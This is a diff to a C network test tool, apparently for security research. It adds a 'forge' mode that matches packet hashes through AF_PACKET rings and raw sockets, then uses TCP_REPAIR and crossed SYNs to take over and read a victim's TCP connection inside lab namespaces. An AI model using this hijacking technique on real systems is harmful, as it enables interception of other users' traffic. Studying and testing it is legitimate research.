@@ -14,6 +14,10 @@
  *	impostor
  *		The adversary knows the sequence numbers of a victim's handshake before it
  *		ends, and accepts a connection that has the same.
+ *	forge flow|socket
+ *		The same who sees the number that a victim's packets have as their hash,
+ *		and takes a victim for which he can send a packet with that hash: the
+ *		kernel works one out from ports of his choice, or a raw socket has it.
  *	proxy PORT UID
  *		A transparent proxy as a sidecar is: becomes UID, listens on 127.0.0.1 and
  *::1, asks where each connection wanted to go (SO_ORIGINAL_DST), prints "to ADDRESS
@@ -27,6 +31,8 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
 #include <linux/if_tun.h>
 #include <poll.h>
 #include <linux/tcp.h>
@@ -42,6 +48,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -241,6 +249,9 @@ struct segment {
 	char data[2048];
 };
 
+/* Where segments go that are not sent by a TUN device or a raw socket */
+static struct sockaddr_ll packets_to;
+
 /* A segment of IPv4 without options, data of zeros; all but ports in host byte order. */
 static void send_segment(int tun, uint32_t from, uint32_t to, uint16_t source,
 			 uint16_t dest, uint32_t seq, uint32_t ack, bool syn, size_t data)
@@ -262,12 +273,16 @@ static void send_segment(int tun, uint32_t from, uint32_t to, uint16_t source,
 			 .ack = ack != 0,
 			 .window = htons(65535) },
 	};
+	ssize_t sent;
 	uint32_t pseudo = (from >> 16) + (from & 0xffff) + (to >> 16) + (to & 0xffff) +
 			  IPPROTO_TCP + 20 + data;
 
 	out.ip.check = checksum(&out.ip, 20, 0);
 	out.tcp.check = checksum(&out.tcp, 20 + data, pseudo);
-	if (write(tun, &out, 40 + data) != (ssize_t)(40 + data))
+	sent = packets_to.sll_family ? sendto(tun, &out, 40 + data, 0,
+					      (void *)&packets_to, sizeof(packets_to))
+				     : write(tun, &out, 40 + data);
+	if (sent != (ssize_t)(40 + data))
 		fail("write to tun");
 }
 
@@ -502,6 +517,324 @@ static int run_impostor(void)
 	return stolen > 0;
 }
 
+/*
+ * What forge shares: the hashes that the adversary's packets can have, and how.  One
+ * that a later packet has as well takes the place of the earlier.
+ */
+#define FORGED (1 << 20)
+
+struct forgery {
+	uint32_t hash; /* 0: none */
+	uint32_t how;  /* flow: the packet's ports; socket: its file descriptor */
+};
+
+struct forge {
+	struct forgery table[FORGED];
+	struct forgery chosen;
+	uint32_t isn;	/* of the victim */
+	in_port_t port; /* its own */
+};
+
+static struct forgery *place_of(struct forge *forge, uint32_t hash)
+{
+	uint32_t at = hash % FORGED;
+
+	while (forge->table[at].hash && forge->table[at].hash != hash)
+		at = (at + 1) % FORGED;
+	return &forge->table[at];
+}
+
+/* What AF_PACKET tells of packets, their hashes too (CAP_NET_RAW in the namespace). */
+#define RING_BLOCK (1 << 20)
+#define RING_BLOCKS 16
+
+struct ring {
+	char *blocks;
+	unsigned int next;
+};
+
+static struct ring open_ring(const char *device)
+{
+	struct tpacket_req3 request = {
+		.tp_block_size = RING_BLOCK,
+		.tp_block_nr = RING_BLOCKS,
+		.tp_frame_size = 2048,
+		.tp_frame_nr = RING_BLOCKS * (RING_BLOCK / 2048),
+		.tp_retire_blk_tov = 10,
+		.tp_feature_req_word = TP_FT_REQ_FILL_RXHASH,
+	};
+	int fd = socket(AF_PACKET, SOCK_DGRAM, 0), version = TPACKET_V3;
+	struct sockaddr_ll address = { .sll_family = AF_PACKET,
+				       .sll_protocol = htons(ETH_P_ALL),
+				       .sll_ifindex = if_nametoindex(device) };
+	struct ring ring = {};
+
+	if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof(version)) ||
+	    setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &request, sizeof(request)))
+		fail("packet ring");
+	ring.blocks = mmap(NULL, (size_t)RING_BLOCK * RING_BLOCKS, PROT_READ | PROT_WRITE,
+			   MAP_SHARED, fd, 0);
+	if (ring.blocks == MAP_FAILED || bind(fd, (void *)&address, sizeof(address)))
+		fail("packet ring on %s", device);
+	return ring;
+}
+
+/* Calls see() for each packet, until the ring has said nothing for a while. */
+static void drain(struct ring *ring,
+		  void (*see)(struct forge *forge, uint32_t hash, const struct segment *),
+		  struct forge *forge)
+{
+	for (int idle = 0; idle < 40;) {
+		struct tpacket_block_desc *block =
+			(void *)(ring->blocks +
+				 (size_t)ring->next % RING_BLOCKS * RING_BLOCK);
+		struct tpacket_hdr_v1 *header = &block->hdr.bh1;
+		struct tpacket3_hdr *packet;
+
+		if (!(__atomic_load_n(&header->block_status, __ATOMIC_ACQUIRE) &
+		      TP_STATUS_USER)) {
+			usleep(1000);
+			idle++;
+			continue;
+		}
+		packet = (void *)((char *)block + header->offset_to_first_pkt);
+		for (unsigned int i = 0; i < header->num_pkts; i++) {
+			see(forge, packet->hv1.tp_rxhash,
+			    (void *)((char *)packet + packet->tp_net));
+			packet = (void *)((char *)packet + packet->tp_next_offset);
+		}
+		__atomic_store_n(&header->block_status, TP_STATUS_KERNEL,
+				 __ATOMIC_RELEASE);
+		ring->next++;
+		idle = 0;
+	}
+}
+
+/* Of a packet to the adversary's own address */
+static uint32_t ports_of(const struct segment *segment)
+{
+	return ntohs(segment->tcp.source) << 16 | ntohs(segment->tcp.dest);
+}
+
+static void note_flow(struct forge *forge, uint32_t hash, const struct segment *segment)
+{
+	if (segment->ip.protocol == IPPROTO_TCP)
+		*place_of(forge, hash) = (struct forgery){ hash, ports_of(segment) };
+}
+
+/* The packet that a raw socket sends to say what hash it has is numbered by it. */
+static void note_socket(struct forge *forge, uint32_t hash, const struct segment *segment)
+{
+	if (segment->ip.protocol == IPPROTO_TCP && !segment->tcp.rst)
+		*place_of(forge, hash) =
+			(struct forgery){ hash, ntohl(segment->tcp.seq) };
+}
+
+/* Has a number of its own, sk_txhash, that its packets have as their hash. */
+static int raw_socket(void)
+{
+	struct sockaddr_in own = address_of(OWN_ADDRESS);
+	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+
+	if (fd < 0 || connect(fd, (void *)&own, sizeof(own)))
+		fail("raw socket");
+	return fd;
+}
+
+/*
+ * Its packets have none, so the kernel works one out from addresses and ports to choose
+ * one of the device's queues (netdev_pick_tx).
+ */
+static int packet_socket(void)
+{
+	packets_to = (struct sockaddr_ll){ .sll_family = AF_PACKET,
+					   .sll_protocol = htons(ETH_P_IP),
+					   .sll_ifindex = if_nametoindex("out"),
+					   .sll_halen = 6,
+					   .sll_addr = { 2, 0, 0, 0, 0, 2 } };
+	return socket(AF_PACKET, SOCK_DGRAM, 0);
+}
+
+static void forge_segment(int fd, uint32_t ports, uint32_t seq, uint32_t ack, bool syn)
+{
+	struct sockaddr_in own = address_of(OWN_ADDRESS), peer = address_of(PEER_ADDRESS);
+
+	send_segment(fd, ntohl(peer.sin_addr.s_addr), ntohl(own.sin_addr.s_addr),
+		     htons(ports >> 16), htons(ports & 0xffff), seq, ack, syn, 0);
+}
+
+#define FLOW_PORTS 4 /* with each 65535 flows */
+#define RAW_SOCKETS 16384
+#define SAME_PORTS ((uint32_t)PORT << 16 | PORT)
+
+/* All that it can send later, each with the hash that it will have. */
+static void fill_table(struct forge *forge, bool flows)
+{
+	struct ring ring = open_ring(flows ? "in" : "lo");
+	int raw = flows ? packet_socket() : -1;
+
+	for (uint32_t i = 0; flows && i < FLOW_PORTS * 65535; i++) {
+		forge_segment(raw, (1 + i % 65535) << 16 | (PORT + i / 65535), 1, 1,
+			      false);
+		if (i % 4096 == 4095)
+			drain(&ring, note_flow, forge);
+	}
+	for (int i = 0; !flows && i < RAW_SOCKETS; i++) {
+		int fd = raw_socket();
+
+		forge_segment(fd, SAME_PORTS, fd, 1, false);
+		if (i % 4096 == 4095)
+			drain(&ring, note_socket, forge);
+	}
+	drain(&ring, flows ? note_flow : note_socket, forge);
+	if (flows)
+		close(raw);
+}
+
+/*
+ * An end that connects, and whose peer connects at the same time, accepts: with this, an
+ * adversary has such an end with both sequence numbers of his choice (TCP_REPAIR).
+ */
+static int accept_crossed(int raw, uint32_t ports, uint32_t isn, uint32_t peer_isn)
+{
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), on = 1, off = 0,
+	    queue = TCP_SEND_QUEUE;
+	struct sockaddr_in own = address_of(OWN_ADDRESS), peer = address_of(PEER_ADDRESS);
+	struct pollfd connected = { .fd = fd, .events = POLLOUT };
+
+	own.sin_port = htons(ports & 0xffff);
+	peer.sin_port = htons(ports >> 16);
+	if (bind(fd, (void *)&own, sizeof(own)) ||
+	    setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) ||
+	    setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof(queue)) ||
+	    setsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &isn, sizeof(isn)) ||
+	    setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off)))
+		fail("own sequence numbers");
+	if (!connect(fd, (void *)&peer, sizeof(peer)) || errno != EINPROGRESS)
+		fail("connect to who connects");
+	forge_segment(raw, ports, peer_isn, 0, true);
+	forge_segment(raw, ports, peer_isn + 1, isn + 1, false);
+	if (poll(&connected, 1, 5000) != 1 || connected.revents != POLLOUT)
+		fail("SYNs that cross");
+	fcntl(fd, F_SETFL, 0);
+	return fd;
+}
+
+#define FORGED_ISN 123456789
+
+static void pose_by_hash(struct forge *forge, bool flows, int pipe, int go)
+{
+	uint32_t ports = SAME_PORTS;
+	char byte;
+	int raw;
+
+	new_namespace(CLONE_NEWUSER | CLONE_NEWNET);
+	if (system("ip link set lo up && "
+		   "ip link add out numtxqueues 2 type veth peer name in "
+		   "address 02:00:00:00:00:02 && ip link set out up && ip link set in "
+		   "up"))
+		fail("devices");
+	fill_table(forge, flows);
+	tell(pipe, "+", 1);
+	if (read(go, &byte, 1) != 1)
+		fail("go");
+	raw = forge->chosen.how;
+	if (flows) {
+		ports = forge->chosen.how;
+		raw = packet_socket();
+	}
+	tell_what_comes(accept_crossed(raw, ports, FORGED_ISN + 1, forge->isn), pipe);
+}
+
+static void look_for_victim(struct forge *forge, uint32_t hash,
+			    const struct segment *segment)
+{
+	struct forgery *found = place_of(forge, hash);
+
+	if (segment->ip.protocol != IPPROTO_TCP || !segment->tcp.syn || !found->hash ||
+	    forge->chosen.hash)
+		return;
+	forge->chosen = *found;
+	forge->isn = ntohl(segment->tcp.seq);
+	forge->port = segment->tcp.source;
+}
+
+#define VICTIMS 8192
+
+/* Connections that nobody has answered yet; the one of them that can be forged, or -1. */
+static int find_victim(struct forge *forge, struct ring *ring)
+{
+	struct sockaddr_in peer = address_of(PEER_ADDRESS);
+	static int fds[VICTIMS];
+	int victim = -1;
+
+	for (int i = 0; i < VICTIMS; i++) {
+		fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+		if (fds[i] < 0 || (connect(fds[i], (void *)&peer, sizeof(peer)) &&
+				   errno != EINPROGRESS))
+			fail("connect");
+	}
+	drain(ring, look_for_victim, forge);
+	for (int i = 0; i < VICTIMS; i++) {
+		struct sockaddr_in own;
+		socklen_t length = sizeof(own);
+
+		getsockname(fds[i], (void *)&own, &length);
+		if (forge->chosen.hash && own.sin_port == forge->port)
+			victim = fds[i];
+		else
+			close(fds[i]);
+	}
+	return victim;
+}
+
+static int run_forge(const char *how)
+{
+	struct forge *forge = mmap(NULL, sizeof(*forge), PROT_READ | PROT_WRITE,
+				   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	struct sockaddr_in own = address_of(OWN_ADDRESS), peer = address_of(PEER_ADDRESS);
+	struct rlimit files;
+	int told[2], go[2], tun, victim = -1, stolen, tries = 0;
+	struct pollfd connected = { .events = POLLOUT };
+	pid_t adversary, reader;
+	struct ring ring;
+	char packet[2048];
+
+	getrlimit(RLIMIT_NOFILE, &files);
+	files.rlim_cur = files.rlim_max;
+	if (forge == MAP_FAILED || pipe(told) || pipe(go) ||
+	    setrlimit(RLIMIT_NOFILE, &files))
+		fail("forge");
+	adversary = fork();
+	if (!adversary)
+		pose_by_hash(forge, !strcmp(how, "flow"), told[1], go[0]);
+	close(told[1]);
+	if (read(told[0], packet, 1) != 1)
+		fail("the adversary's table");
+	tun = new_namespace(CLONE_NEWNET);
+	ring = open_ring("tun0");
+	reader = fork();
+	if (!reader)
+		while (read(tun, packet, sizeof(packet)) > 0)
+			;
+	while (victim < 0 && tries++ < 400)
+		victim = find_victim(forge, &ring);
+	if (victim < 0)
+		fail("no hash of %d connections met the table", tries * VICTIMS);
+	/* The peer that the victim connects to, on another host, say */
+	send_segment(tun, ntohl(peer.sin_addr.s_addr), ntohl(own.sin_addr.s_addr),
+		     htons(PORT), forge->port, FORGED_ISN, forge->isn + 1, true, 0);
+	connected.fd = victim;
+	if (poll(&connected, 1, 5000) != 1 || connected.revents != POLLOUT)
+		fail("the victim is not connected");
+	tell(go[1], "+", 1);
+	printf("connections=%d ", tries * VICTIMS);
+	stolen = stolen_from(victim, told[0]);
+	kill(adversary, SIGKILL);
+	kill(reader, SIGKILL);
+	return stolen > 0;
+}
+
 /* The two initial sequence numbers of an end: its own, and the other's. */
 static void isns_of(int fd, uint32_t isns[2])
 {
@@ -663,6 +996,8 @@ int main(int argc, char **argv)
 		return run_proxy(argv + 2);
 	if (argc == 4 && !strcmp(argv[1], "peername"))
 		return run_peername(argv + 2);
+	if (argc == 3 && !strcmp(argv[1], "forge"))
+		return run_forge(argv[2]);
 	if (argc == 2 && !strcmp(argv[1], "impostor"))
 		return run_impostor();
 	fprintf(stderr,
@@ -670,6 +1005,7 @@ int main(int argc, char **argv)
 		"       nets steal NETNS LISTEN PORT DIAL connected|accepted|"
 		"returned\n"
 		"       nets impostor\n"
+		"       nets forge flow|socket\n"
 		"       nets proxy PORT UID\n"
 		"       nets peername ADDRESS PORT\n");
 	return 2;
